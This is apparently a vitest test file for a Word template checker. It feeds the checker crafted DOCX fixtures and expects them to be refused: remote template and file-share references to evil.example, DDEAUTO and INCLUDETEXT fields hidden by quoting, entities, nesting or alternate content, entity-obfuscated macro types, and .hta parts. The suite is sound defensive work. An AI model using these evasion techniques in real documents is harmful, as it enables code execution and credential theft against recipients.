import { checkTemplate } from "@iphub/server/documents/reports/check-template";
import { paragraph } from "@iphub/server/documents/reports/docx-blocks";
import { readDocument } from "@iphub/server/documents/reports/read-document";
import { writeDocx } from "@iphub/server/documents/reports/write-docx";
import { expect, test } from "vitest";
import { docxPart, docxWith } from "../../support/docx.ts";
import { letterhead, paragraphs, picture } from "../../support/letterhead.ts";
import { pngPicture } from "../../support/png-picture.ts";

const good = writeDocx([paragraph("{title}")]);
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const related = (attributes: string, part = "word/_rels/settings.xml.rels") =>
  docxWith(good, {
    [part]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" ${attributes}/></Relationships>`,
  });
const compatibility = "http://schemas.openxmlformats.org/markup-compatibility/2006";
const inDocument = (xml: string) =>
  docxWith(good, {
    "word/document.xml": docxPart(good, "word/document.xml").replace("<w:sectPr>", `<w:p>${xml}</w:p><w:sectPr>`),
  });
const instruction = (code: string) => `<w:r><w:instrText>${code}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (code: string) => `${mark("begin")}${code}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}`;
const typed = (type: string) =>
  docxWith(good, {
    "[Content_Types].xml": docxPart(good, "[Content_Types].xml").replace("</Types>", `${type}</Types>`),
    "word/media/settings.png": "<w:settings/>",
  });

const elsewhere = /refers to a file elsewhere/;
const loads = /a field that loads from elsewhere/;
const refused: Readonly<Record<string, readonly [Buffer, RegExp]>> = {
  "a type that ends like a hyperlink's": [
    related(`Type="${office}/attachedTemplate/hyperlink" Target="https://evil.example/x.dotm" TargetMode="External"`),
    elsewhere,
  ],
  "the mode of a relationship written with entities": [
    related(`Type="${office}/attachedTemplate" Target="https://evil.example/x" TargetMode="Extern&#97;l"`),
    elsewhere,
  ],
  "a relationship that says it is internal and names a host": [
    related(`Type="${office}/attachedTemplate" Target="file:////evil.example/x.dotm"`),
    elsewhere,
  ],
  "a link to a file share": [
    related(`Type="${office}/hyperlink" Target="\\\\evil.example\\share" TargetMode="External"`),
    elsewhere,
  ],
  "relationships in a part with an upper-case name": [
    related(
      `Type="${office}/attachedTemplate" Target="https://evil.example/x" TargetMode="External"`,
      "word/_rels/settings.xml.RELS",
    ),
    elsewhere,
  ],
  "one part in two spellings": [docxWith(good, { "WORD/document.XML": "<w:document/>" }), /is damaged/],
  "a part that Word reads as XML under a picture's name": [
    typed('<Override PartName="/word/media/settings.png" ContentType="application/xml"/>'),
    /is damaged/,
  ],
  "macros whose type is written with an entity": [
    typed('<Default Extension="x" ContentType="application/vnd.ms-word.document.m&#97;croEnabled.main+xml"/>'),
    /has macros/,
  ],
  "a part of an unknown kind": [
    docxWith(good, { "word/evil.hta": "x" }),
    /a part that is not known \(word\/evil\.hta\)/,
  ],
  "another encoding": [
    docxWith(good, { "word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><w:styles xmlns:w="w"/>' }),
    /is damaged/,
  ],
  "a field whose name is quoted": [inDocument(field(instruction('"DDEAUTO" cmd'))), loads],
  "a field whose name has entities": [inDocument(field(instruction("&#68;DEAUTO cmd"))), loads],
  "a field whose name another field computes": [
    inDocument(`${mark("begin")}${field(instruction("QUOTE 68 68 69"))}${instruction(" cmd")}${mark("end")}`),
    loads,
  ],
  "a field that reads a bookmark as its code": [
    inDocument(`${mark("begin")}${field(instruction("REF code"))}${mark("end")}`),
    loads,
  ],
  "a field under another prefix": [
    inDocument(
      '<x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" x:instr="INCLUDETEXT x"/>',
    ),
    loads,
  ],
  "a field that loads a document": [inDocument(field(instruction("RD \\\\evil.example\\x.docx"))), loads],
  "a field that links to a file": [
    inDocument(field(instruction('HYPERLINK "file://evil.example/x"'))),
    /links to a file/,
  ],
  "a field whose code is written as text": [
    inDocument(field('<w:r><w:t xml:space="preserve">DDEAUTO cmd</w:t></w:r>')),
    loads,
  ],
  "a field whose name an alternative hides": [
    inDocument(
      field(
        `<w:r><mc:AlternateContent xmlns:mc="${compatibility}"><mc:Choice Requires="x"><w:instrText>PAGE </w:instrText></mc:Choice><mc:Fallback><w:instrText>DDEAUTO cmd</w:instrText></mc:Fallback></mc:AlternateContent></w:r>`,
      ),
    ),
    loads,
  ],
  "a field that begins in an alternative": [
    inDocument(
      `<mc:AlternateContent xmlns:mc="${compatibility}"><mc:Choice Requires="x">${mark("begin")}${instruction("PAGE ")}</mc:Choice></mc:AlternateContent>${instruction("DDEAUTO cmd")}${mark("end")}`,
    ),
    loads,
  ],
  "a field whose name is in a namespace that Word leaves out": [
    inDocument(field(`<w:r><x:instrText xmlns:x="urn:x">PAGE </x:instrText></w:r>${instruction("DDEAUTO cmd")}`)),
    loads,
  ],
  "a field within what Word leaves out": [
    inDocument(field(`<x:r xmlns:x="urn:x">${instruction("PAGE ")}</x:r>${instruction("DDEAUTO cmd")}`)),
    loads,
  ],
  "a field that begins and ends at once, by an attribute that Word leaves out": [
    inDocument(
      `${instruction("PAGE ")}<w:r><w:fldChar xmlns:x="urn:x" x:fldCharType="end" w:fldCharType="begin"/></w:r>${instruction("DDEAUTO cmd")}${mark("end")}`,
    ),
    loads,
  ],
  "codes of no field, one after the other": [inDocument(instruction("PAGE ") + instruction("DDEAUTO cmd")), loads],
  "a field whose name a simple field computes": [
    inDocument(`${mark("begin")}<w:fldSimple w:instr="DOCPROPERTY evil"/>${mark("separate")}${mark("end")}`),
    loads,
  ],
  "a field that is nested too deeply to be seen": [
    inDocument("<w:smartTag>".repeat(160) + field(instruction("PAGE")) + "</w:smartTag>".repeat(160)),
    loads,
  ],
  "a link to a file behind a tip": [
    inDocument(field(instruction('HYPERLINK \\o "Our page" "file://evil.example/x"'))),
    /links to a file/,
  ],
  "a link to a file in curly quotes": [
    inDocument(field(instruction("HYPERLINK “\\\\evil.example\\x”"))),
    /links to a file/,
  ],
  "a link whose scheme has a blank in it": [
    inDocument(field(instruction('HYPERLINK "fi\u200ble://evil.example/x"'))),
    /links to a file/,
  ],
  "a link that another field computes": [
    inDocument(
      `${mark("begin")}${instruction("HYPERLINK ")}${field(instruction("DOCPROPERTY evil"))}${mark("separate")}${mark("end")}`,
    ),
    /links to a file/,
  ],
  "a page that Word reads into it": [related(`Type="${office}/aFChunk" Target="page.xml"`), /a kind that is not known/],
  "an add-in that opens with it": [
    related(
      'Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="panes.xml"',
      "_rels/.rels",
    ),
    /a kind that is not known/,
  ],
  "a place elsewhere from which its links begin": [
    docxWith(good, {
      "docProps/app.xml": "<Properties><HyperlinkBase>\\\\evil.example\\share</HyperlinkBase></Properties>",
    }),
    elsewhere,
  ],
  "a picture by an address of its own": [
    inDocument(
      '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/x.png"/></w:pict></w:r>',
    ),
    elsewhere,
  ],
  "the data source of a mail merge": [
    docxWith(good, {
      "word/settings.xml":
        '<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>',
    }),
    /data source of a mail merge/,
  ],
  "a field with a very long code": [inDocument(field(instruction(`IF ${"1".repeat(10_000)}`))), /code is longer than/],
  "more elements than a letter has": [
    docxWith(good, { "word/styles.xml": `<w:styles xmlns:w="w">${"<w:style/>".repeat(400_000)}</w:styles>` }),
    /more text and formatting than a letter can have/,
  ],
};

test.each(Object.entries(refused))("a template with %s is refused", async (_, [file, message]) => {
  await expect(checkTemplate(file)).rejects.toThrow(message);
});

test("a letter as Word writes it is accepted: page numbers, dates, conditions, links to pages and pictures", async () => {
  const condition = `${mark("begin")}${instruction(' IF "')}${field(instruction(" PAGE "))}${instruction('" = "1" "a" "b" ')}${mark("separate")}${mark("end")}`;
  const letter = inDocument(
    [
      field(instruction(' DATE \\@ "d MMMM yyyy" ')),
      field(instruction(" NUM") + instruction("PAGES ")),
      '<w:fldSimple w:instr=" PAGE  \\* MERGEFORMAT "/>',
      field(instruction(' HYPERLINK "https://www.uspto.gov" ')),
      field(instruction(' HYPERLINK \\l "claims" \\o "See: claims" ')),
      `<w:r><mc:AlternateContent xmlns:mc="${compatibility}"><mc:Choice Requires="wps"><w:txbxContent><w:p>${field(instruction(" PAGE "))}</w:p></w:txbxContent></mc:Choice><mc:Fallback><w:p>${field(instruction(" PAGE "))}</w:p></mc:Fallback></mc:AlternateContent></w:r>`,
      condition,
    ].join(""),
  );
  const linked = docxWith(letter, {
    "word/_rels/header1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/hyperlink" Target="mailto:ada@firm.example" TargetMode="External"/></Relationships>`,
    "word/media/image1.PNG": "x",
  });
  expect((await checkTemplate(linked)).size).toBeGreaterThan(3);
});

test("thousands of namespaces, and of elements with one of their own, are judged at once", async () => {
  const declared = Array.from({ length: 50_000 }, (_, at) => `xmlns:n${at}="urn:n"`).join(" ");
  const many = inDocument('<w:r xmlns:x="urn:x"/>'.repeat(20_000));
  const document = docxPart(many, "word/document.xml").replace("<w:document ", `<w:document ${declared} `);
  const started = performance.now();
  await checkTemplate(docxWith(many, { "word/document.xml": document }));
  // Linear: a second or two even on a busy machine; with a copy for each element minutes.
  expect(performance.now() - started).toBeLessThan(20_000);
});

test("a picture that is shown a thousand times is unpacked once", async () => {
  const shown = paragraphs(...Array.from({ length: 1_000 }, () => picture("largepng", 10, 10)));
  const file = letterhead({ body: shown, pictures: { "large.png": pngPicture(3_900, 2_000, [200, 0, 0]) } });
  const parts = await checkTemplate(file);
  const started = performance.now();
  const { blocks } = readDocument(parts);
  expect(performance.now() - started).toBeLessThan(20_000);
  const runs = blocks.flatMap((block) => (block.kind === "paragraph" ? block.runs : []));
  expect(runs.filter(({ kind }) => kind === "picture")).toHaveLength(1_000);
});
